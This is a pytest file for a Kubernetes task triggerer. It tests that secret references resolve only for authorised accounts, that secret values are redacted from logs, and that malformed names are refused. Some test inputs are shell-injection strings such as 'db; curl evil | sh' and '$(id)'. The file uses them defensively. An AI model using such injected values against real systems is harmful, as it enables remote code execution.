"""One replica: the value of a Secret reaches the trigger and nothing else."""

import json
from typing import Any

import pytest
from torpor.triggers.support.arguments import Revealed
from torpor_kubernetes.client.resources import EVENTS, SECRETS, TASKRUNS
from torpor_triggerer.secrets import reader
from torpor_triggerer.secrets.reader import SecretReader
from torpor_triggerer.usercode import validation
from torpor_wire import constants, trigger, typed_json
from torpor_wire.secret_ref import SecretRef

from tests.support.fake_api import Fault
from tests.support.triggerer_fixture import NAMESPACE, TriggererFixture, start_with_wait, triggerer_fixture

SECRET = "hunter2-hunter2"
REFERENCE = SecretRef("db", "password").written()


def prepared(world: TriggererFixture, account: str = constants.TASK_ACCOUNT) -> None:
    world.secret("db", password=SECRET)
    world.readers.add((account, "db"))


def seen(world: TriggererFixture) -> str:
    """All that a user can see: the log, the writes and the objects."""
    objects = [*world.fake.all(TASKRUNS), *world.fake.all(EVENTS)]
    written = [request.body for request in world.fake.requests if request.body is not None]
    return world.log_output.getvalue() + json.dumps(objects) + json.dumps(written)


async def test_a_reference_anywhere_in_the_kwargs_is_the_text_of_the_secret() -> None:
    async with triggerer_fixture() as world:
        prepared(world)
        await start_with_wait(world, "a", kwargs={"name": "a", "deep": [{"x": REFERENCE}, 1], "plain": "p"})
        assert world.trigger_kwargs[0]["deep"] == [{"x": SECRET}, 1]
        assert isinstance(world.trigger_kwargs[0]["deep"][0]["x"], Revealed)
        assert not isinstance(world.trigger_kwargs[0]["plain"], Revealed)
        assert world.called("a") == ["run"]


async def test_whether_the_account_may_read_it_is_asked_each_time() -> None:
    async with triggerer_fixture() as world:
        prepared(world, "reader")
        spec = {"python": "m:f", "serviceAccount": "reader"}
        world.taskrun("a", kwargs={"name": "a", "x": REFERENCE}, spec=spec, account="reader")
        world.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, spec=spec, account="reader")
        await world.start()
        assert world.reviews == [("reader", "db")] * 2
        assert world.called("a") == world.called("b") == ["run"]


async def test_an_account_without_the_right_fails_and_the_secret_is_not_read() -> None:
    async with triggerer_fixture() as world:
        prepared(world, "another")
        await start_with_wait(
            world, "a", kwargs={"name": "a", "x": REFERENCE}, spec={"python": "m:f", "retries": {"limit": 1}}
        )
        await world.pass_time(5)
        assert world.state_and_reason("a") == ("UpForRetry", "SecretForbidden")
        message = world.status("a")["message"]
        assert "ServiceAccount torpor-task may not get Secret db in namespace workflows" in message
        assert "create role read-db --verb=get --resource=secrets --resource-name=db" in message
        assert not [request for request in world.fake.requests if "/secrets/" in request.path]
        assert world.trigger_kwargs == []


async def test_a_role_created_shortly_after_the_wait_is_waited_for() -> None:
    async with triggerer_fixture() as world:
        world.secret("db", password=SECRET)
        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
        world.readers.add((constants.TASK_ACCOUNT, "db"))
        await world.pass_time(2)
        assert world.called("a") == ["run"]


async def test_a_repeatedly_denied_account_delays_no_other() -> None:
    async with triggerer_fixture() as world:
        prepared(world, "reader")
        for number in range(100):
            world.taskrun(f"denied{number}", kwargs={"name": f"denied{number}", "x": REFERENCE})
        spec = {"python": "m:f", "serviceAccount": "reader"}
        world.taskrun("z", kwargs={"name": "z", "x": REFERENCE}, spec=spec, account="reader")
        await world.start()
        assert world.called("z") == ["run"]


@pytest.mark.parametrize(
    ("path", "words"), [("/secrets/db", "components/secrets"), ("/none", "may not create SubjectAccessReviews")]
)
async def test_a_triggerer_without_the_right_says_which_it_lacks(path: str, words: str) -> None:
    async with triggerer_fixture() as world:
        prepared(world)
        if path == "/none":
            world.reviewing = False
        else:
            world.fake.inject(Fault(status=403, method="GET", path=path, message="no such right", times=9))
        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
        assert world.state_and_reason("a") == ("Failed", "SecretForbidden")
        assert words in world.status("a")["message"]


async def test_a_secret_or_a_key_that_is_missing_is_waited_for() -> None:
    async with triggerer_fixture() as world:
        world.readers.add((constants.TASK_ACCOUNT, "db"))
        world.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, timeout=20)
        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
        await world.pass_time(4)
        world.secret("db", other="x")
        await world.pass_time(17)
        assert world.state_and_reason("a") == ("Deferred", "Waiting")
        assert ": Secret db has no key password" in world.status("a")["message"]
        assert world.state_and_reason("b") == ("Failed", "DeferralTimeout")
        assert world.status("b")["message"].endswith("last look: Secret db has no key password")
        assert "Secret db does not exist in namespace workflows; retrying in 5 s" in world.log_output.getvalue()
        world.fake.remove(SECRETS, NAMESPACE, "db")
        prepared(world)
        await world.pass_time(25)
        assert world.called("a") == ["run"]
        assert world.called("b") == []


async def test_a_server_that_does_not_answer_is_asked_again() -> None:
    async with triggerer_fixture() as world:
        prepared(world)
        world.fake.inject(Fault(status=503, method="GET", path="/secrets/db", times=8))
        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
        await world.pass_time(60)
        assert world.called("a") == ["run"]


@pytest.mark.parametrize(
    "bad",
    [
        {"__type": "secretRef", "__var": "db"},
        {"__type": "secretRef", "__var": {"name": "db"}},
        {"__type": "secretRef", "__var": {"name": "db", "key": 1}},
        {"__type": "secretRef", "__var": {"name": "db", "key": "k", "more": 1}},
        {"__type": "secretRef", "__var": {"name": "../x", "key": "k"}},
    ],
)
async def test_what_is_no_reference_is_refused(bad: Any) -> None:
    async with triggerer_fixture() as world:
        world.readers |= {(constants.TASK_ACCOUNT, "db"), (constants.TASK_ACCOUNT, "../x")}
        await start_with_wait(world, "a", kwargs={"name": "a", "x": bad})
        assert world.state_and_reason("a") == ("Failed", "TriggerInvalid")


@pytest.mark.parametrize(
    "data",
    [
        {"secretRef": {"name": "db", "key": "password"}},
        {"deep": [{"secretRef": {"name": "db", "key": "password"}}]},
        typed_json.encode({"__type": "dict", "__var": {"secretRef": {"name": "db", "key": "password"}}}),
    ],
)
async def test_a_reference_from_data_is_refused_and_no_secret_is_read(data: Any) -> None:
    async with triggerer_fixture() as world:
        prepared(world)
        await start_with_wait(world, "a", kwargs={"name": "a", "x": data})
        assert world.state_and_reason("a") == ("Failed", "TriggerInvalid")
        assert "contains a secretRef that came as data" in world.status("a")["message"]
        assert (world.reviews, world.trigger_kwargs) == ([], [])


async def test_data_that_looks_like_a_marked_reference_is_data() -> None:
    async with triggerer_fixture() as world:
        prepared(world)
        data = {"list": [REFERENCE], "__type": REFERENCE}
        await start_with_wait(world, "a", kwargs={"name": "a", "x": typed_json.encode(data)})
        assert world.trigger_kwargs[0]["x"] == data
        assert world.reviews == []


@pytest.mark.parametrize(
    "bad",
    [{"name": "db; curl evil | sh", "key": "k"}, {"name": "$(id)", "key": "k"}, {"name": "db", "key": "\x1b[2J"}],
)
async def test_a_name_that_no_secret_can_have_is_refused_before_anybody_is_asked(bad: dict[str, str]) -> None:
    async with triggerer_fixture() as world:
        await start_with_wait(world, "a", kwargs={"name": "a", "x": {"__type": "secretRef", "__var": bad}})
        assert world.state_and_reason("a") == ("Failed", "TriggerInvalid")
        assert "of a Secret" in world.status("a")["message"]
        assert "kubectl" not in world.status("a")["message"]
        assert not [request for request in world.fake.requests if "/subjectaccessreviews" in request.path]


@pytest.mark.parametrize(("account", "name"), [("x; curl evil | sh", "db"), ("torpor-task", "$(id)"), ("a\nb", "db")])
def test_no_command_is_printed_with_a_name_that_a_shell_would_interpret(account: str, name: str) -> None:
    assert reader.commands(reader.SecretAccount(NAMESPACE, account), name) == ""


async def test_what_is_no_text_is_refused() -> None:
    async with triggerer_fixture() as world:
        world.readers.add((constants.TASK_ACCOUNT, "db"))
        world.fake.put(SECRETS, {"metadata": {"name": "db", "namespace": NAMESPACE}, "data": {"password": "/w=="}})
        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
        assert world.status("a")["message"] == "key password of Secret db is not text in UTF-8"


@pytest.mark.parametrize(
    ("does", "state", "reason"),
    [
        ("shows what it was given and fires", "Scheduled", None),
        ("shows what it was given and raises", "Failed", "TriggerFailed"),
        ("refuses what it was given", "Failed", "TriggerInvalid"),
    ],
)
async def test_a_secret_is_never_shown_by_any_behaviour_of_its_trigger(
    does: str, state: str, reason: str | None
) -> None:
    async with triggerer_fixture() as world:
        prepared(world)
        await start_with_wait(world, "a", kwargs={"does": does, "name": "a", "x": REFERENCE})
        await world.pass_time(2)
        assert world.state_and_reason("a") == (state, reason)
        assert world.trigger_kwargs[0]["x"] == SECRET
        assert "hunter2" not in seen(world)
        assert "***" in seen(world)


@pytest.mark.parametrize(("broken", "state"), [("reveal", "Deferred"), ("admit", "Failed")])
async def test_a_bug_on_the_way_to_a_secret_ends_no_triggerer(
    broken: str, state: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    def bug(*_: object) -> None:
        raise ZeroDivisionError("nobody thought of it")

    async with triggerer_fixture() as world:
        prepared(world)
        monkeypatch.setattr(*{"reveal": (SecretReader, "read"), "admit": (validation, "admit")}[broken], bug)
        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
        assert world.status("a")["state"] == state
        monkeypatch.undo()
        await world.pass_time(6)
        assert world.called("a") == (["run"] if broken == "reveal" else [])


async def test_a_wait_that_is_cancelled_while_its_secret_is_missing_ends_at_once() -> None:
    async with triggerer_fixture() as world:
        world.readers.add((constants.TASK_ACCOUNT, "db"))
        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
        world.edit("a", cancel="2023-11-14T22:13:20Z")
        world.taskrun("b", kwargs={"name": "b", "x": REFERENCE}, status={"cancel": "2023-11-14T22:13:20Z"})
        await world.settle()
        assert world.state_and_reason("a") == world.state_and_reason("b") == ("Cancelled", "Cancelled")


async def test_a_cancelled_wait_with_its_secret_there_is_killed() -> None:
    async with triggerer_fixture() as world:
        prepared(world)
        await start_with_wait(
            world, "a", kwargs={"name": "a", "x": REFERENCE}, status={"cancel": "2023-11-14T22:13:20Z"}
        )
        assert world.called("a") == ["on_kill", "cleanup"]


async def test_a_wait_that_moves_away_while_its_secret_is_missing_asks_no_more() -> None:
    async with triggerer_fixture() as world:
        world.readers.add((constants.TASK_ACCOUNT, "db"))
        await start_with_wait(world, "a", kwargs={"name": "a", "x": REFERENCE})
        world.fake.remove(TASKRUNS, NAMESPACE, "a")
        await world.settle()
        before = len(world.reviews)
        await world.pass_time(60)
        assert len(world.reviews) == before


async def test_a_key_that_leaves_out_the_account_is_a_lie() -> None:
    async with triggerer_fixture() as world:
        prepared(world)
        kwargs: dict[str, Any] = {"name": "a", "x": REFERENCE}
        key = trigger.key("odd", kwargs, namespace=NAMESPACE, pool="default", account="another")
        await start_with_wait(world, "a", kwargs=kwargs, trigger={"key": key, "shard": trigger.shard(key)})
        assert world.state_and_reason("a") == ("Failed", "TriggerInvalid")
        assert world.reviews == []
